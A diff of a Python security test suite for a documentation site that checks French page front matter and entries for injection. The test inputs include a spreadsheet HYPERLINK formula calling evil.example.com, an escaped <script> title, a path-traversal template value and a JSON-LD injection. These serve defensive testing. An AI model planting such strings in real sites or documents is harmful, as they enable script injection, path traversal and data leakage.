@@ -529,16 +529,6 @@ def attribute_breakout_through_a_page_title(root: Path) -> Callable:
 
 
 @escaped
-def structured_data_in_a_hand_written_page(root: Path) -> Callable:
-    replace_text(root, "docs/fr/help.md", "title: Obtenir de l'aide\n",
-                 f"title: Obtenir de l'aide\njsonld: '{{\"@type\": \"{PAYLOAD}\"}}'\n")
-
-    def check(built) -> None:
-        assert built.html("fr/help/").find("script", type="application/ld+json") is None
-    return check
-
-
-@escaped
 def spreadsheet_formula_in_a_rationale(root: Path) -> Callable:
     formula = f'=HYPERLINK("https://evil.example.com/{PAYLOAD}";"Source")'
     write_entry(root, "fr", "links", "preamble/crc/art-34", formula)
@@ -676,6 +666,8 @@ CASES += [
          _front_matter(f"title: Accueil\ntemplate: ../../{PAYLOAD}.html", 3, "sets `template:` in its front matter, "
                        "which a page may not; keep only `title:` and `description:`")),
     Case("front_matter_icon", _front_matter(f"title: Accueil\nicon: {PAYLOAD}", 3, "sets `icon:` in its front matter")),
+    Case("front_matter_structured_data",
+         _front_matter(f"title: Accueil\njsonld: '{{\"@type\": \"{PAYLOAD}\"}}'", 3, "sets `jsonld:` in its front matter")),
     Case("front_matter_yaml_escape",
          _front_matter(f'title: "\\x3cscript\\x3e{PAYLOAD}\\x3c/script\\x3e"', 2, "`title:` contains a <script> element")),
     Case("front_matter_title_is_a_list", _front_matter(f"title: [{PAYLOAD}, x]", 2, "`title:` must be one line of text")),
